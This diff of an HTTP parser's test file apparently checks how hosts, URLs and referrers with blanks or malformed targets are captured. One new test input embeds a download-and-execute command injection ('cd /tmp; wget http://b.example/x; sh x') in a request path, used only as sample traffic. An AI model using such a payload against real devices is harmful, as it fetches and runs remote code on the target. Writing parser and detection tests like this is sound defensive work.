@@ -88,11 +88,19 @@ struct HTTPTests {
       "no URL: asterisk, empty and malformed targets",
       request(
         "OPTIONS * HTTP/1.1\r\nHost: a.example\r\n\r\nGET  HTTP/1.1\r\nHost: b.example\r\n\r\n"
-          + "GET x/y HTTP/1.1\r\nHost: c.example\r\n\r\n"
-          + "GET /a b HTTP/1.1\r\nHost: d.example\r\n\r\n"),
+          + "GET x/y HTTP/1.1\r\nHost: c.example\r\n\r\n"),
+      ["1 http.host a.example", "1 http.host b.example", "1 http.host c.example"])
+    CaptureCase(
+      "blanks in a target and in a referrer",
+      request(
+        "GET /shell?cd+/tmp;wget http://b.example/x;sh\tx  HTTP/1.1\r\nHost: a.example\r\n"
+          + "Referer: http://c.example/b?title=  two words\r\n\r\n"
+          + "GET http://d.example/a b HTTP/1.1\r\n\r\nGET http://e .example/ HTTP/1.1\r\n\r\n"),
       [
-        "1 http.host a.example", "1 http.host b.example", "1 http.host c.example",
-        "1 http.host d.example",
+        "1 http.host a.example",
+        "1 http.url http://a.example/shell?cd+/tmp;wget%20http://b.example/x;sh%09x",
+        "1 http.referrer http://c.example/b?title=%20%20two%20words",
+        "1 http.host d.example", "1 http.url http://d.example/a%20b",
       ])
     CaptureCase(
       "requests behind one another, with a body between",
